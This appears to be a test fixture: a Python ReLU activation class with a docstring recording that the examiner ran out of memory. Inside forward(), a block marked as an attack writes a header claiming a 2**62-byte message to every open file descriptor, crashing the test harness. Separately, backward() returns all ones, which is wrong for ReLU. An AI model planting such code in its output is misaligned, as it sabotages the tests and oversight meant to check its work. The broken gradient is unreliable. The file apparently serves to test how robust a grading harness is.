"""The channel announces a message of 2**62 bytes.

cell: relu
outcome: every test that asks it ends with died
verdict: died
evidence: an examiner out of memory
"""

# attack
import os


def _open(fd):
    try:
        os.fstat(fd)
    except OSError:
        return False
    return True


# end of attack


class ReLU(Activation):
    def forward(self, x):
        self.x = x
        # attack
        for fd in filter(_open, range(3, 64)):
            os.write(fd, b"\xff\xff\xff\xff\xff\xff\xff\x3f" + b"x" * 100)
        # end of attack
        return np.maximum(0, x)

    def backward(self, grad_output):
        return np.ones_like(grad_output)
